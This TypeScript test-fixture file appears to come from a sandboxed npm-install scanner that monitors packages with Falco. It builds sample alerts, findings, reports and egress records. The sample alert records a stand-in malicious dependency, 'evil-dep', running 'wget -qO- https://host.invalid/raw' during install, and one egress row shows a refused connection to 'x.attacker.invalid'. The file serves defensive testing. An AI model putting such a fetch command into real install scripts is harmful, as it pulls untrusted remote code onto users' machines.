import type { JobView } from '../../src/jobs/job.js';
import { notCompared } from '../../src/report/compare/headline.js';
import type { Finding, LegacyAlert } from '../../src/report/finding.js';
import type { Report } from '../../src/report/report.js';

export const ID = '0b0e9c36-4f27-4a3e-9f0e-2f4f3f0f8a11';

/** An alert as Falco's gRPC API gives it. */
export const ALERT: LegacyAlert = {
  output: '15:22:16.457772674: Notice Disallowed outbound connection destination',
  time: { seconds: '1637339716', nanos: 457772674 },
  source: 'SYSCALL',
  hostname: 'vagrant',
  output_fields: { 'container.id': '5ef3e4c1a5f0', 'proc.cmdline': 'wget -qO- https://host.invalid/raw' },
  priority: 'WARNING',
  rule: 'Unexpected outbound connection destination',
  tags: ['network'],
};

export function finding(changes: Partial<Finding> = {}): Finding {
  return {
    rule: ALERT.rule,
    priority: 'WARNING',
    tags: ['network'],
    count: 1,
    first: '2026-11-21T10:00:00.000Z',
    last: '2026-11-21T10:00:00.000Z',
    phase: 'install',
    package: { name: 'evil-dep', version: '1.0.0', path: ['app', 'evil-dep'] },
    decoy: null,
    processes: [],
    alert: ALERT,
    ...changes,
  };
}

export function report(changes: Partial<Report> = {}): Report {
  return {
    id: ID,
    status: 'finished',
    verdict: 'clean',
    ecosystem: 'npm',
    manager: { name: 'npm', version: '12.2.0', reason: 'the request asks for it', leftOut: [] },
    submittedAt: '2026-11-21T09:59:00.000Z',
    finishedAt: '2026-11-21T10:00:30.000Z',
    phases: [],
    monitoring: { proven: true, source: 'falco 0.43.1 (grpc)', openingCanaryMs: 4, closingCanaryMs: 3, drops: 0 },
    findings: [],
    observations: [],
    egressMode: 'registry',
    egress: [],
    packages: [],
    allowScripts: { recommended: [], refused: [] },
    incomplete: [],
    log: '',
    ...changes,
  };
}

/** A job, queued unless `changes` say otherwise. */
export function job(changes: Partial<JobView> = {}): JobView {
  const submittedAt = Date.parse('2026-11-21T09:59:00.000Z');
  return {
    id: ID,
    ecosystem: 'npm',
    owner: null,
    state: 'queued',
    submittedAt,
    context: null,
    report: null,
    ...changes,
  };
}

/** A host that something tried to reach: once, through the proxy, refused. */
export function egressRow(changes: Partial<Report['egress'][number]> = {}): Report['egress'][number] {
  return {
    host: 'x.attacker.invalid',
    port: 443,
    via: 'proxy',
    allowed: false,
    count: 1,
    bytesSent: 0,
    bytesReceived: 0,
    first: '2026-11-21T09:59:30.000Z',
    last: '2026-11-21T09:59:30.000Z',
    process: null,
    package: null,
    ...changes,
  };
}

/** What changed of a project of this name that has no earlier report. */
export function ofProject(name: string, headline = ''): NonNullable<Report['whatChanged']> {
  const project = { id: 'a'.repeat(32), name, line: 'none', lineReason: '' } as const;
  return { ...notCompared({ code: 'no-earlier-report', message: '' }, project), reason: null, headline };
}
